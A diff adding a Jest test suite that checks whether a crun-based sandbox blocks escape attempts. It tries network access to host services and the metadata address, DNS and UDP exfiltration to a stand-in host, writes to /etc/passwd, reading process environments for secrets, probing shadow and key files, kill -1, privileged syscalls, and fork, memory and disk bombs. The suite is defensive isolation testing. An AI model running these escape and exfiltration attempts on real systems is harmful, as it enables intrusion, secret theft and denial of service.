@@ -1,0 +1,211 @@
+import { randomUUID } from 'node:crypto';
+import { createConnection } from 'node:net';
+import { CrunRuntime } from '../src/runtime/crun.runtime';
+import type { ExecRequest, ExecResult, SandboxLimits } from '../src/runtime/runtime.port';
+
+/**
+ * Ways out of a sandbox (agent-path.md), each a test that fails if the door opens, on the
+ * real crun runtime of this machine. Network classes that belong to the egress proxy
+ * (SNI ≠ Host, CONNECT to other ports, redirects, WebSocket, credential injection) come
+ * with the proxy; here the network has no way out at all.
+ */
+jest.setTimeout(60_000);
+
+const LIMITS: SandboxLimits = { cpuMillis: 500, memoryMb: 128, pids: 48, workspaceMb: 16, timeoutMs: 30_000 };
+const runtime = new CrunRuntime({ crun: process.env.SANDBOX_CRUN ?? 'crun', runDir: '/run/palisade-sandbox-test', instance: `esc${process.pid}` });
+const A = randomUUID();
+const B = randomUUID();
+const HOST_MARKER = `host-secret-${randomUUID()}`;
+
+function run(sandbox: string, argv: string[], extra: Partial<ExecRequest> = {}): Promise<ExecResult> {
+  return runtime.exec(sandbox, randomUUID(), { argv, timeoutMs: LIMITS.timeoutMs, outputCapBytes: 256 * 1024, ...extra }).result;
+}
+const py = (code: string, extra: Partial<ExecRequest> = {}) => run(A, ['/usr/bin/python3', '-c', code], extra);
+const sh = (script: string, extra: Partial<ExecRequest> = {}) => run(A, ['/bin/sh', '-c', script], extra);
+const out = (r: ExecResult) => r.stdout.toString().trim();
+
+/** Prints `connected` or the error's name of a TCP/UDP attempt from inside. */
+const CONNECT = `
+import socket, sys
+family = socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET
+s = socket.socket(family, socket.SOCK_STREAM)
+s.settimeout(3)
+try:
+    s.connect((sys.argv[1], int(sys.argv[2])))
+    print('connected')
+except OSError as e:
+    print('refused', e.errno)
+`;
+const connect = (host: string, port: number) => run(A, ['/usr/bin/python3', '-c', CONNECT, host, String(port)]);
+
+function hostReaches(port: number): Promise<boolean> {
+  return new Promise((resolve) => {
+    const socket = createConnection({ host: '127.0.0.1', port, timeout: 3000 });
+    socket.once('connect', () => (socket.destroy(), resolve(true)));
+    socket.once('error', () => resolve(false));
+    socket.once('timeout', () => (socket.destroy(), resolve(false)));
+  });
+}
+
+const doors: string[] = [];
+const closed = new Set<string>();
+function door(name: string, test: () => Promise<void>): void {
+  doors.push(name);
+  it(name, async () => {
+    await test();
+    closed.add(name);
+  });
+}
+
+beforeAll(async () => {
+  process.env.PALISADE_ESCAPE_MARKER = HOST_MARKER; // in the orchestrator's environment: must not reach a sandbox
+  await runtime.check();
+  await runtime.create(A, LIMITS);
+  await runtime.create(B, LIMITS);
+});
+
+afterAll(async () => {
+  await runtime.reconcile(new Set());
+  const rows = doors.map((name) => ({ escape: name, result: closed.has(name) ? 'closed' : 'OPEN or not run' }));
+  console.log(`${rows.map((r) => `${r.result.padEnd(16)} ${r.escape}`).join('\n')}\nescape_tests_passed: ${closed.size}/${doors.length}`);
+});
+
+describe('escapes from a sandbox', () => {
+  door('direct connection to the host’s PostgreSQL (127.0.0.1:5432)', async () => {
+    expect(await hostReaches(5432)).toBe(true); // it is there, seen from the host
+    expect(out(await connect('127.0.0.1', 5432))).toMatch(/^refused/);
+  });
+
+  door('direct connection to the host’s NATS (127.0.0.1:4222)', async () => {
+    expect(await hostReaches(4222)).toBe(true);
+    expect(out(await connect('127.0.0.1', 4222))).toMatch(/^refused/);
+  });
+
+  door('direct connection to an external IP and the metadata address', async () => {
+    expect(out(await connect('1.1.1.1', 443))).toBe('refused 101'); // ENETUNREACH: no route at all
+    expect(out(await connect('169.254.169.254', 80))).toBe('refused 101');
+    expect(out(await connect('10.0.0.1', 80))).toBe('refused 101');
+  });
+
+  door('IPv6 connections', async () => {
+    expect(out(await connect('2606:4700:4700::1111', 443))).toBe('refused 101');
+    expect(out(await connect('::1', 5432))).toMatch(/^refused/); // its own loopback, not the host's
+  });
+
+  door('DNS resolution (and DNS exfiltration over UDP)', async () => {
+    const r = await py(`
+import socket
+try:
+    socket.getaddrinfo('data.exfil.example', 443)
+    print('resolved')
+except OSError as e:
+    print('failed')
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b'x', ('8.8.8.8', 53))
+    print('sent')
+except OSError as e:
+    print('unsent', e.errno)
+`);
+    expect(out(r)).toBe('failed\nunsent 101');
+  });
+
+  door('writes to the root filesystem', async () => {
+    const r = await sh('for f in /usr/bin/pwned /etc/passwd /pwned /bin/sh /etc/ssl/certs/pwned; do (echo x > "$f") 2>/dev/null && echo "wrote $f"; done; echo done');
+    expect(out(r)).toBe('done');
+  });
+
+  door('the host’s /proc (pid 1’s environment, other processes) and environment', async () => {
+    const r = await sh(`cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; echo; env; ls /proc | grep -c '^[0-9]'`);
+    expect(r.stdout.toString()).not.toContain(HOST_MARKER);
+    expect(r.stdout.toString()).not.toMatch(/PALISADE_|PGPASSWORD|NATS_|DATABASE_URL/);
+    const processes = Number(r.stdout.toString().trim().split('\n').pop());
+    expect(processes).toBeLessThan(10); // its own few, not the host's hundreds
+  });
+
+  door('the host’s files (/work, /root, /home, .palisade, PostgreSQL data, /tmp)', async () => {
+    const r = await sh('for p in /work /root /home /var/lib/postgresql /var /run /opt /work/main/.palisade/pki/ca.key /etc/shadow /etc/ssh; do test -e "$p" && echo "sees $p"; done; ls /tmp | wc -l');
+    expect(out(r)).toBe('0');
+  });
+
+  door('another sandbox’s processes', async () => {
+    const marker = `other-sandbox-${randomUUID()}`;
+    const other = runtime.exec(B, randomUUID(), { argv: ['/bin/sh', '-c', `sleep 20 # ${marker}`], timeoutMs: 30_000, outputCapBytes: 1024 });
+    await new Promise((r) => setTimeout(r, 1000));
+    const seen = await sh(`cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; echo; kill -9 -1 2>/dev/null; echo killed-all`);
+    expect(seen.stdout.toString()).not.toContain(marker);
+    other.kill();
+    expect(await other.result).toMatchObject({ reason: 'killed' }); // our kill, not the other sandbox's kill -1
+  });
+
+  door('setuid binaries, capabilities, raw sockets and new namespaces', async () => {
+    const r = await py(`
+import os, socket, subprocess
+print('caps', open('/proc/self/status').read().split('CapEff:')[1].split()[0])
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('raw socket')
+except OSError as e:
+    print('no raw socket', e.errno)
+for argv in (['unshare', '-U', 'true'], ['unshare', '-r', 'true'], ['su', '-c', 'id'], ['mount', '-t', 'tmpfs', 'x', '/tmp']):
+    try:
+        print(argv[0], subprocess.run(argv, capture_output=True, stdin=subprocess.DEVNULL, timeout=10).returncode != 0)
+    except FileNotFoundError:
+        print(argv[0], True)
+print('uid', os.getuid(), os.geteuid())
+`);
+    expect(out(r)).toBe('caps 0000000000000000\nno raw socket 1\nunshare True\nunshare True\nsu True\nmount True\nuid 1000 1000');
+  });
+
+  door('dangerous system calls (ptrace, mount, keyring, bpf, userfaultfd, io_uring, setns, perf, kexec)', async () => {
+    const calls = { ptrace: 101, mount: 165, keyctl: 250, add_key: 248, request_key: 249, bpf: 321, userfaultfd: 323, io_uring_setup: 425, unshare: 272, setns: 308, perf_event_open: 298, kexec_load: 246 };
+    const result = await run(A, ['/usr/bin/python3', '-c', `
+import ctypes, json, sys
+libc = ctypes.CDLL(None, use_errno=True)
+for name, nr in json.loads(sys.argv[1]).items():
+    rc = libc.syscall(nr, 0, 0, 0, 0, 0)
+    print(name, rc, ctypes.get_errno())
+`, JSON.stringify(calls)]);
+    expect(out(result).split('\n')).toEqual(Object.keys(calls).map((name) => `${name} -1 1`)); // EPERM from seccomp
+  });
+
+  door('fork bomb (pids limit)', async () => {
+    const r = await py(`
+import os, time
+n = 0
+try:
+    while n < 10000:
+        if os.fork() == 0:
+            time.sleep(30); os._exit(0)
+        n += 1
+except OSError as e:
+    print('stopped', n, e.errno)
+`, { timeoutMs: 20_000 });
+    const [word, forks, errno] = out(r).split(' ');
+    expect(word).toBe('stopped');
+    expect(Number(forks)).toBeLessThan(LIMITS.pids);
+    expect(errno).toBe('11'); // EAGAIN from the pids controller
+    expect(out(await sh('echo alive'))).toBe('alive'); // the sandbox still works after it
+  });
+
+  door('memory bomb (OOM reported)', async () => {
+    const r = await py('chunks = []\nwhile True: chunks.append(bytearray(16 * 1024 * 1024))');
+    expect(r.reason).toBe('oom');
+    expect(r.usage.peakMemoryBytes).toBeLessThanOrEqual(LIMITS.memoryMb * 1024 * 1024);
+  });
+
+  door('disk fill of the workspace and /tmp (size caps)', async () => {
+    const r = await sh('dd if=/dev/zero of=/workspace/fill bs=1M count=200 2>/dev/null; echo ws=$?; du -m /workspace/fill | cut -f1; dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; echo tmp=$?; rm -f /workspace/fill');
+    const [ws, wsMb, tmp] = out(r).split('\n');
+    expect(ws).not.toBe('ws=0');
+    expect(Number(wsMb)).toBeLessThanOrEqual(LIMITS.workspaceMb);
+    expect(tmp).not.toBe('tmp=0');
+  });
+
+  door('CPU spin past the timeout (killed, within its CPU quota)', async () => {
+    const r = await sh('while :; do :; done', { timeoutMs: 2000 });
+    expect(r.reason).toBe('timeout');
+    expect(r.signal).toBe('SIGKILL');
+    // half a core: the spin got at most its quota of the wall time (generous slack for a busy machine)
+    expect(r.usage.cpuSeconds).toBeLessThan(r.usage.wallSeconds * (LIMITS.cpuMillis / 1000) + 0.5);
+  });
+});
